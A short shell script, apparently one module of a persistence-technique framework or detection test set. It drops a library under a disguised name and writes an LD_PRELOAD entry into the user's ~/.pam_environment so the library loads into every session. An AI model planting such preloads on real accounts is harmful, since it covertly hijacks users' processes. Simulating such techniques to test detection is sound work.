#!/bin/sh
# pam-environment: a preload of an account (pam_env(8), .pam_environment)
. "${0%/*}/lib.sh"
only "plain disguised dropped user" "a library has no command line"
l=$(named "$home/.cache/libx.so" "$lib/libXfont3.so.1")
library "$l"
put "$home/.pam_environment" 644 "$head" "LD_PRELOAD DEFAULT=$l"
